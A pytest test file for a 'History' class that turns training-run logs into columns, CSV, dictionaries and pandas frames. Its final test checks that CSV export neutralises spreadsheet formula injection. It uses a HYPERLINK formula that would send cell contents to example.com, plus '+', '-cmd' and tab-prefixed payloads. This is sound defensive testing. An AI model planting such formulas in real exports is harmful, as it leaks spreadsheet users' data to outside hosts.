"""The log as columns."""

from __future__ import annotations

import csv
import sys

import pytest

from footplate.report.history import History

LOGS = [
    {"loss": 2.0, "learning_rate": 1e-3, "epoch": 0.5, "step": 5},
    {"loss": 1.0, "learning_rate": 5e-4, "epoch": 1.0, "step": 10},
    {"eval_loss": 1.5, "epoch": 1.0, "step": 10},
    {"note": "a, b\n<c>", "step": 10},
]


def test_a_column_has_its_values_and_their_steps():
    history = History(LOGS)
    assert history["loss"] == [2.0, 1.0]
    assert history.steps("loss") == [5, 10]
    assert history["eval_loss"] == [1.5]
    assert history.steps("eval_loss") == [10]
    assert history.columns == ["step", "epoch", "loss", "learning_rate", "eval_loss", "note"]
    assert list(history) == history.columns
    assert len(history) == 4
    assert "loss" in history
    assert "f1" not in history


def test_an_unknown_column_is_an_error_that_lists_the_known_ones():
    with pytest.raises(KeyError, match="eval_loss"):
        History(LOGS)["f1"]
    with pytest.raises(KeyError, match="these were: none"):
        History([]).steps("loss")


def test_the_table_on_disk_is_read_back_line_by_line(tmp_path):
    History(LOGS).to_csv(tmp_path / "log.csv")
    with open(tmp_path / "log.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [{key: value for key, value in row.items() if value} for row in rows] == [
        {key: str(value) for key, value in entry.items()} for entry in LOGS
    ]


def test_the_dictionary_has_steps_and_values():
    columns = History(LOGS).to_dict()
    assert columns["loss"] == {"steps": [5, 10], "values": [2.0, 1.0]}
    assert "step" not in columns


def test_pandas_gets_one_row_per_log():
    frame = History(LOGS).to_pandas()
    assert list(frame.columns) == History(LOGS).columns
    assert frame["loss"].dropna().tolist() == [2.0, 1.0]
    assert frame["step"].tolist() == [5, 10, 10, 10]


def test_without_pandas_the_error_says_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(ImportError, match="pip install pandas"):
        History(LOGS).to_pandas()


def test_it_prints_as_a_table_with_last_lowest_and_highest():
    lines = repr(History(LOGS)).splitlines()
    assert lines[0] == "History of 4 logs"
    assert next(line for line in lines if line.startswith("loss")).split() == ["loss", "2", "1", "1", "2"]
    assert repr(History([])).startswith("History of 0 logs")


def test_logs_made_later_are_seen():
    logs = list(LOGS[:1])
    history = History(logs)
    logs.append(LOGS[1])
    assert history["loss"] == [2.0, 1.0]


def test_a_table_that_cannot_be_finished_leaves_the_old_one(tmp_path):
    path = tmp_path / "log.csv"
    History([{"loss": 1.0, "step": 1}]).to_csv(path)
    before = path.read_text()

    class Full:
        def __str__(self):
            raise OSError("no space left")

    with pytest.raises(OSError, match="no space"):
        History([{"loss": Full(), "step": 2}]).to_csv(path)
    assert path.read_text() == before
    assert [child.name for child in tmp_path.iterdir()] == ["log.csv"]


def test_text_that_a_spreadsheet_would_compute_is_kept_as_text(tmp_path):
    formula = '=HYPERLINK("http://example.com?"&A1)'
    log = {
        "step": 1,
        "loss": -0.5,
        "note": formula,
        "@sum": "+1",
        "more": "-cmd",
        "tab": "\t=1",
        "plain": "a=b",
    }
    History([log]).to_csv(tmp_path / "log.csv")
    with open(tmp_path / "log.csv", newline="", encoding="utf-8") as file:
        header, row = csv.reader(file)
    assert header == ["step", "loss", "note", "'@sum", "more", "tab", "plain"]
    assert row == ["1", "-0.5", "'" + formula, "'+1", "'-cmd", "'\t=1", "a=b"]
